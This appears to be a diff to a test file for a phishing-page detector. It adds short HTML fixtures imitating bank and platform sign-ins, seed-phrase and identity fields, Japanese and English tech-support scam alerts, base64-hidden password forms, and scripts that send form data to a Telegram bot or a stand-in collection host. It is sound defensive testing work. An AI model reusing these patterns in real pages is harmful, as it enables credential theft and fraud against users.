@@ -10,9 +10,11 @@ const PAGES: Record<Exclude<PageRuleId, 'known.content' | 'check.unfinished'>, s
   'credential.one-time-code': '\n<input autocomplete="one-time-code">',
   'credential.pin': '<table><tr><td>暗証番号</td><td>\n<input name="a"></td></tr></table>',
   'credential.seed-phrase': '\n<textarea placeholder="12-word seed phrase"></textarea>',
+  'credential.identity': '\n<label>Social Security number<input name="s"></label>',
   'brand.title': '\n<title>【重要】三井住友カードからのお知らせ</title>',
   'brand.mention': '\n<title>三井住友カードの新しい看板を見た</title>',
   'brand.heading': '\n<div class="site-logo"><span>Ama</span>zon</div>',
+  'brand.text': '<h1>Sign in</h1>\n<p>Use your Google Account</p>',
   'brand.field': '\n<input placeholder="Apple ID">',
   'brand.icon': '\n<link rel="shortcut icon" href="https://www.smbc-card.com/favicon.ico">',
   'brand.logo': '\n<img class="logo" src="https://www.netflix.com/x.png">',
@@ -20,6 +22,9 @@ const PAGES: Record<Exclude<PageRuleId, 'known.content' | 'check.unfinished'>, s
   'brand.copyright': '\n<footer>Copyright (C) 2026 Mizuho Bank, Ltd.</footer>',
   'brand.links': '\n<a href="https://www.docomo.ne.jp/">x</a>'.padEnd(2).repeat(5),
   'brand.source': '\n<!-- saved from url=(0029)https://login.rakuten-card.co.jp/x -->',
+  'page.login': '\n<title>Webmail Login</title><form method="post"><input type="password"></form>',
+  'page.support-alert':
+    '\n<h1>ウイルスに感染しています</h1><p>電源を切らないでください 050-1234-5678</p><audio autoplay src="a.mp3">',
   'target.form': '\n<form action="https://collect.example/a">',
   'target.request': "\n<script>fetch('https://collect.example/a')</script>",
   'target.chat-hook': "\n<script>fetch('https://api.telegram.org/bot1:A/sendMessage')</script>",
@@ -29,9 +34,15 @@ const PAGES: Record<Exclude<PageRuleId, 'known.content' | 'check.unfinished'>, s
   'evasion.developer-tools': '\n<body oncontextmenu="return false">',
   'evasion.hidden-form': `\n<script>write(atob('${Buffer.from('<b>x</b><input type="password">').toString('base64')}'))</script>`,
   'evasion.encoded-page': `\n<script>write(atob('${Buffer.from('<p>いろはにほへと</p>'.repeat(30)).toString('base64')}'))</script>`,
+  'evasion.amount': `\n${'<input>'.repeat(5_001)}`,
   'evasion.redirect': '\n<meta http-equiv="refresh" content="0; url=https://example.com/">',
 };
-const LINES: Partial<Record<PageRuleId, number>> = { 'brand.links': 6, 'evasion.encoded-page': 1 };
+const LINES: Partial<Record<PageRuleId, number>> = {
+  'brand.links': 6,
+  'evasion.encoded-page': 1,
+  'page.support-alert': 1,
+  'evasion.amount': 1,
+};
 
 const MIB = 1024 * 1024;
 const fill = (part: string): string => part.repeat(Math.floor(MIB / part.length));
@@ -48,8 +59,8 @@ describe('checkPage', () => {
     expect(found).toMatchObject({ line, weight: pageRules[rule as PageRuleId].weight });
   });
 
-  it.each(Object.entries(PAGES))('does not refuse a page for %s alone', (_, html) => {
-    expect(checkPage(html).outcome).toBe('passed');
+  it.each(Object.entries(PAGES))('does not refuse a page for %s alone', (rule, html) => {
+    expect(checkPage(html).outcome).toBe(rule.startsWith('page.') ? 'notice' : 'passed');
   });
 
   it('finds the form and the name behind more than can be read within the time', () => {
@@ -126,12 +137,53 @@ describe('checkPage', () => {
       '<title>PayPal</title><pre>document.write(unescape("%3Cinput%20type=password%3E"))</pre>',
     ],
     ['code that is shown', '<title>PayPal</title><pre>&lt;input type="password"&gt;</pre>'],
+    [
+      'a link in a heading',
+      '<header><a href="https://www.google.com/">Go to Google</a></header><input type="password">',
+    ],
+    [
+      'a link in a header',
+      '<div class="top-header"><span><a href="https://www.facebook.com/x">Facebook</a></span></div><input type="password">',
+    ],
+    [
+      "an asset's file name with a brand in it",
+      '<h1>Our shop</h1><img src="/img/logos/google-play.svg" oncontextmenu="return false"><input type="password">',
+    ],
+    [
+      'a radio button for a means of payment',
+      '<h1>Your order of today</h1><input name="cardnumber"><div class="pay-logo"><input type="radio">PayPal</div>',
+    ],
+    [
+      'one button of several to sign in',
+      '<title>Universität</title><button class="idp-logo">Poste ID</button><button>X ID</button><input type="password">',
+    ],
+    ["a drawing's title", '<title>日記</title><p>x</p><title>WhatsApp</title><input type="password">'],
+    ['a form of its own to sign in', '<title>ログイン | 写真館</title><form><input type="password"></form>'],
+    [
+      'a log-in beside an article',
+      `<title>Prison news</title><h2>Log in</h2><form method="post"><input type="password"></form>${'<p>A long text about something.</p>'.repeat(60)}`,
+    ],
+    [
+      'an article about false alerts',
+      '<h1>サポート詐欺の偽警告</h1><p>「ウイルスに感染しています」「電源を切らないでください」と表示。相談は 188 または 03-1234-5678。</p>',
+    ],
     ['markup in a comment', '<title>PayPal</title><!-- <input type="password"> -->'],
   ])('passes %s', (_, html) => {
     expect(checkPage(html).outcome).toBe('passed');
   });
 
   it.each([
+    ['an owner alone', '<title>Sign in to your account</title><input type="password"><p>©2019 Microsoft</p>'],
+    ['an owner in a link', '<title>Authorization</title><input type="password"><p>© 2021, <a href="#">Yandex</a></p>'],
+    ['an account in the text', '<h1>Sign in</h1><p>Use your Google Account</p><input type="email"><input name="psw">'],
+    ['an account that has a problem', '<h1>Verify</h1><p>Your Apple ID is locked.</p><input name="passcode">'],
+    ['a large i for a small l', '<title>AppIe ID - Sign in</title><input type="password">'],
+    ['a secret answer', '<title>Chase - Verify your identity</title><label>Security answer<input></label>'],
+    ['a text of many words', '<h1>MetaMask</h1><p>Enter your recovery phrase</p><textarea></textarea>'],
+    [
+      'a heading behind many others',
+      `<title>a</title>${'<h2>x</h2>'.repeat(300)}${'<h1>x</h1>'.repeat(300)}<h1>PayPal</h1><input type="password">`,
+    ],
     ['a name without a heading', '<div><b>PayPal</b></div><input type="password">'],
     ["a copy of a platform's sign-in", '<link rel="canonical" href="https://github.com/login"><input type="password">'],
     [
@@ -216,6 +268,24 @@ describe('checkPage', () => {
 
   it.each([
     [
+      'a log-in without a brand',
+      '<title>Webmail Login</title><form><input type="email"><input type="password"></form>',
+    ],
+    [
+      'a document behind a log-in',
+      '<h1>Document - sign in to view</h1><form action="go.php"><input name="mail"><input type="password"></form>',
+    ],
+    [
+      'a log-in of a brand that is not known',
+      '<title>Log in | Kinoko Bank</title><form action="https://x.example/"><input type="password"></form>',
+    ],
+    [
+      'a support alert in English',
+      '<h1>Virus detected</h1><p>Do not close this window. Call +1-888-555-0100</p><script>x.requestFullscreen()</script>',
+    ],
+    ['more fields than are read', `<input type="password">${'<input>'.repeat(5_001)}`],
+    ['more scripts than are read', `<input type="password">${'<script>a</script>'.repeat(2_001)}`],
+    [
       'a field whose input goes to a chat',
       '<input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")</script>',
     ],
@@ -283,12 +353,7 @@ function slowPages(): [string, string][] {
     ['nested headings', fill('<div class="logo">')],
     ['headings that open nothing', fill('<hr class="header">x')],
     ['lists of texts', inScript(fill('a=["b",'))],
-    ['places in a list', inScript(`a=["${'x'.repeat(1_000)}"];${fill('a[0]+')}`)],
-    ['a packed script', inScript(`eval(function(p,a,c,k,e,d){}('${fill('0 1 ')}',62,1,'y|a'.split('|')))`)],
-    ['replaced texts', inScript(`a.replace(/x/g,"y");${fill('"xxx";')}`)],
-    ['scripts with masked texts', fill(`<script>fromCharCode(a^1);${`b="${'A'.repeat(30)}";`.repeat(8)}</script>`)],
     ['scripts with labels', fill(`<script>a=["input",${'"パスワ",'.repeat(50)}]</script>`)],
-    ['masked texts', inScript(`charCodeAt()^k;${`x="${'A'.repeat(MIB / 8)}";`.repeat(8)}`)],
     ['titles', fill('<meta property=og:title content="Amazon の 楽天">')],
   ];
 }
